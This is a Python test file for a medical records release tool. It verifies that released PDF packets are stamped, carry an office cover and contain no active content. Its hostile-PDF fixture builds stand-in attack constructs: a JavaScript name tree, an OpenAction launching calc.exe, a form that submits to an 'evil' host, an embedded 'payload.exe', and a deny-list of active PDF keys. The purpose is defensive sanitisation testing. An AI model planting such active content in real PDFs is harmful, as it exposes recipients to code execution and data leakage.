"""Release packets a recipient can trust: nothing active, every page stamped, the office on the cover.

The hostile source PDF carries what the review found copied into packets —
page-level JavaScript (``/AA``), an ``/OpenAction`` that launches
``calc.exe``, a document-level JavaScript name tree, a link annotation, a
form field and an embedded file.  The packet is checked object by object with
pypdf, and page by page with pdfplumber.
"""

from __future__ import annotations

import hashlib
import io
from datetime import date
from pathlib import Path
from typing import Any

import pdfplumber
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from indexer.db.models import IntakeItem
from indexer.roi import cover, packet, releases, requests
from indexer.roi.releases import ReleaseInput
from indexer.roi.requests import RequestFields
from intake.config import OfficeConfig
from intake.errors import ChartfileError
from tests.integration.test_roi_support import MRN, Home, make_home, pdf_bytes

TODAY = date(2025, 3, 1)
FORBIDDEN = ("/JS", "/JavaScript", "/AA", "/OpenAction", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/Annots",
             "/AcroForm", "/URI", "/XFA")
CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "pdf-odd"


def _js(writer: PdfWriter, code: str) -> IndirectObject:
    return writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                NameObject("/JS"): TextStringObject(code)}))


def hostile_pdf() -> bytes:
    """Two pages of text carrying every kind of active content the review found."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes("HOSTILE", 2))))
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js(writer, "app.alert('page open')")})
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]),
        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                            NameObject("/URI"): TextStringObject("http://evil.example/")})})
    widget = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("field"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(20)]),
        NameObject("/AA"): DictionaryObject({NameObject("/K"): _js(writer, "this.submitForm('http://evil')")})})
    annots = [writer._add_object(link), writer._add_object(widget)]
    page[NameObject("/Annots")] = ArrayObject(annots)
    root = writer._root_object
    root[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    root[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([annots[1]])})
    root[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("init"), _js(writer, "app.alert('document open');")])})})
    writer.add_attachment("payload.exe", b"MZ not really")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def every_object(reader: PdfReader) -> list[Any]:
    """Every indirect object in the file, reachable or not."""
    found = []
    for generation, table in reader.xref.items():
        for idnum in table:
            try:
                found.append(reader.get_object(IndirectObject(idnum, generation, reader)))
            except Exception:  # noqa: BLE001 - a free entry
                continue
    return found


def active_names(data: bytes) -> list[str]:
    reader = PdfReader(io.BytesIO(data))
    hits = [f"{key} in object" for obj in every_object(reader) if isinstance(obj, DictionaryObject)
            for key in obj if key in FORBIDDEN]
    hits += [f"/S {obj['/S']}" for obj in every_object(reader) if isinstance(obj, DictionaryObject)
             and obj.get("/S") in ("/JavaScript", "/Launch", "/URI", "/SubmitForm")]
    for needle in (b"calc.exe", b"app.alert", b"evil.example", b"payload.exe"):
        if needle in data:
            hits.append(needle.decode())
    return hits


def test_the_hostile_fixture_really_is_hostile() -> None:
    assert len(active_names(hostile_pdf())) >= 8


def _home_with_hostile_document(tmp_path: Path) -> tuple[Home, int]:
    home = make_home(tmp_path)
    data = hostile_pdf()
    (home.path / "archive" / "hostile.pdf").write_bytes(data)
    with home.db.transaction() as s:
        from indexer.db.models import Document, Patient

        patient = s.query(Patient).filter_by(mrn=MRN).one()
        item = IntakeItem(original_name="hostile.pdf", origin="ingest", stored_path="archive/hostile.pdf",
                          size=len(data), kind="pdf", state="processed", page_count=2,
                          sha256=hashlib.sha256(data).hexdigest())
        doc = Document(intake_item=item, first_page=1, last_page=2, status="filed", patient=patient,
                       doc_type="lab_result", doc_date=date(2024, 5, 1))
        s.add_all([item, doc])
        s.flush()
        return home, doc.id


def _request(home: Home, recipient: str, basis: str = "individual") -> int:
    fields = RequestFields(received_on=TODAY, channel="mail", requester="Alice Testperson", recipient_name=recipient,
                           basis=basis)
    with home.db.transaction() as s:
        return requests.add(s, mrn=MRN, fields=fields, actor="clerk1", today=TODAY).id


def test_released_packet_has_nothing_active(tmp_path: Path) -> None:
    home, doc_id = _home_with_hostile_document(tmp_path)
    req = _request(home, "Alice Testperson")
    out = releases.release(home.db, ReleaseInput(mrn=MRN, document_ids=[doc_id], recipient_name="Alice Testperson",
                                                 method="pickup", request_id=req), actor="roi1", today=TODAY)
    data = out.path.read_bytes()
    assert active_names(data) == []
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) == 3
    assert reader.pages[1].extract_text().splitlines()[0] == "HOSTILE page 1"  # the text survives


def test_every_page_is_stamped_with_reference_and_page_of_n(tmp_path: Path) -> None:
    home = make_home(tmp_path)
    req = _request(home, "Alice Testperson")
    out = releases.release(home.db, ReleaseInput(
        mrn=MRN, document_ids=[home.docs["lab"], home.docs["imaging"], home.docs["old_note"]],
        recipient_name="Alice Testperson", method="pickup", request_id=req), actor="roi1", today=TODAY)
    with pdfplumber.open(out.path) as pdf:
        texts = [page.extract_text() or "" for page in pdf.pages]
    assert len(texts) == 1 + 2 + 2 + 1
    for number, text in enumerate(texts, start=1):
        assert f"{out.reference} - page {number} of {len(texts)}" in text, (number, text)


def _cover_text(sheet: cover.Cover) -> str:
    with pdfplumber.open(io.BytesIO(cover.render_cover(sheet))) as pdf:
        return pdf.pages[0].extract_text() or ""


def _sheet(**changes: Any) -> cover.Cover:
    base: dict[str, Any] = dict(
        reference="R20250301-ABC123", released_on="2025-03-01",
        sender=cover.Sender("Lakeside Family Medicine", "100 Main St, Springfield, WA 98000", "(206) 555-0100",
                            "(206) 555-0101"),
        recipient_name="Valley Cardiology", recipient_address="2250 River Rd", method="mail", purpose="Care",
        basis="authorization", authorization_ref=None, legal_reference=None, record_pages=2, documents=1)
    base.update(changes)
    return cover.Cover(**base)


def test_cover_carries_the_office_profile_and_the_redisclosure_prohibition() -> None:
    text = _cover_text(_sheet())
    for needle in ("Lakeside Family Medicine", "100 Main St, Springfield, WA 98000", "Phone (206) 555-0100",
                   "Fax (206) 555-0101", "PROHIBITION ON REDISCLOSURE"):
        assert needle in text


def test_patients_own_copy_has_no_redisclosure_prohibition() -> None:
    text = _cover_text(_sheet(own_copy=True, recipient_name="Alice Testperson"))
    assert "PROHIBITION ON REDISCLOSURE" not in text and "your own health information" in text


def test_release_uses_the_configured_office(tmp_path: Path) -> None:
    home = make_home(tmp_path)
    home.cfg.office = OfficeConfig(name="Lakeside Family Medicine", address="100 Main St", phone="555-0100",
                                   fax="555-0101")
    req = _request(home, "Alice Testperson")
    out = releases.release(home.db, ReleaseInput(mrn=MRN, document_ids=[home.docs["lab"]],
                                                 recipient_name="Alice Testperson", method="pickup", request_id=req),
                           actor="roi1", today=TODAY)
    with pdfplumber.open(out.path) as pdf:
        first = pdf.pages[0].extract_text() or ""
    assert "Lakeside Family Medicine" in first and "Fax 555-0101" in first
    assert "PROHIBITION ON REDISCLOSURE" not in first  # the patient's own copy


@pytest.mark.skipif(not CORPUS.exists(), reason="shared corpus not present beside the repository")
@pytest.mark.parametrize("folder", ["malformed", "acroform-signed", "encrypted"])
def test_corpus_pdfs_give_an_inert_packet_or_a_clear_refusal(folder: str) -> None:
    """No source file, however broken, makes a release crash or carry active content."""
    outcomes: dict[str, str] = {}
    for path in sorted((CORPUS / folder).glob("*.pdf")):
        src = packet.SourceRange(1, path, "pdf", 1, 1)
        try:
            built = packet.build(_sheet(), [src])
        except ChartfileError as exc:
            outcomes[path.name] = f"refused: {exc.message}"
            continue
        assert active_names(built.data) == [], path.name
        assert built.record_pages == 1
        outcomes[path.name] = "ok"
    assert "ok" in outcomes.values()
